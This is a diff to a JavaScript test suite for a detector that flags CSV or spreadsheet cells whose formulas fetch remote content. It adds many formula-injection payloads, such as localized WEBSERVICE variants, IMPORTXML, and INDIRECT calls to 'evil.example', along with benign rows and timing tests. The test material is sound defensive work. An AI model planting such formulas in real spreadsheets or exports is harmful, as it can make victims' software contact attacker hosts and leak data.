@@ -62,6 +62,11 @@ const fetching = [
   ],
   ...["='\\\\evil.example\\s\\[a.xls]S'!A1", "='file:///x/y'#$a.A1", '=IF(1,WEBSERVICE("x"),2)', '+IF(1;IMAGE("x"))'],
   ...['"=1+\r\nWEBSERVICE(""x"")"', '"  =IF(""a"",WEBSERVICE(""x""))"', ' =WEBSERVICE("x")', '""=WEBSERVICE("x")'],
+  ...['=WEBDIENST("http://evil.example/")', '=SERVICEWEB("x")', '=WEBDIENST (A1)', '=WENN(1;WEBDIENST("x"))'],
+  ...['=IMPORTTEXT("http://evil.example/")', '=IMPORTCSV("x")', '=IMPORTDATA("x")', '=IMPORTXML("x","//a")'],
+  ...['=INDIRECT("\'ht"&"tp://evil.example/a.xls\'#$a.A1")', '=_xlfn.WEBSERVICE("x")', '=SUM(A1,ДАННЫЕ("x"))'],
+  ...['-WEBDIENST("x")', '+WEBDIENST(A1)', '@WEBDIENST(A:A)', '- WEBDIENST (A1)', '-1+INDIRECT("a"&"b")', '=Ａ（1）'],
+  ...['-UNBEKANNT(ZEICHEN(104)&ZEICHEN(116))', '-1*UNBEKANNT("x")', '-5,=UNBEKANNT("x")', '-(1,=UNBEKANNT (A1)'],
 ];
 
 describe.each(Object.entries(around))('a table that fetches something is found by a cell %s', (_, put) => {
@@ -76,6 +81,11 @@ test.each([
   '"-5","3"\n"Call (+880) 1711","x"',
   "- ready,'quoted'\n=SUM(A1:A2),=HYPERLINK(A1)",
   'WEBSERVICE(x),py (3)',
+  '- Managed (a team of) five,-5,+880 1712 345678\n=====,@handle,@rahim (dev)',
+  '"- Built API(s) for 5 banks\n- Python(advanced), Java (3 years)"',
+  '- Python(advanced),-Java(basic)\n-5,Python(3 years),Salary(BDT)\n- Project(s): 5',
+  '=SUM(A1:A2)*IF(AND(B1>2,C1),ROUND(AVERAGE(D1:D9),1),0)\n=LEFT(A1,2)&CONCATENATE(B1,"-",C1)\n=(A1+B1)*2',
+  '"=HYPERLINK(""https://example.com/"",""My site"")"',
 ])('a table that only speaks of it is taken: %j', (text) => {
   expect(fetchesFromCell(Buffer.from(text))).toBe(false);
 });
@@ -142,6 +152,10 @@ test.each([
   ['quoted cells that begin formulas', '"=",'.repeat(long / 4)],
   ['quotes in quotes', `,"${'""=,'.repeat(long / 4)}`],
   ['lines that begin formulas', '=WEBSERVIC\n'.repeat(long / 11)],
+  ['brackets that begin formulas', '-(,'.repeat(long / 3)],
+  ['calls', '-a("'.repeat(long / 4)],
+  ['names before blanks', `-${`a${' '.repeat(500)}(`.repeat(long / 502)}`],
+  ['harmless calls', `=${'SUM ('.repeat(long / 5)}`],
   ['names without a letter', `=${'5'.repeat(250)}|b!c`.repeat(long / 255)],
 ])('a table of %s is judged in time', (_, text) => {
   const data = Buffer.from(text);
